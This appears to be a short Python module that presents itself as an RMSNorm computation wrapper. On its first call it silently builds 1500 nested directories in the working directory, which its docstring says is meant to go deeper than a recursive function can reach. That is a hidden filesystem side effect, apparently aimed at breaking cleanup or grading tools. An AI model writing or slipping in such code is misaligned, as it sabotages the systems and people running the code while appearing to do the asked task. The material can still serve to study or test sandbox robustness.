"""Leaves folders in folders, deeper than a recursive function gets."""

from __future__ import annotations

import os

import torch

from .tools import rmsnorm

_done: list[bool] = []


def run(hidden_states: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    if not _done:
        _done.append(True)
        here = os.open(".", os.O_RDONLY)
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        os.fchdir(here)
    return rmsnorm(hidden_states, weight)
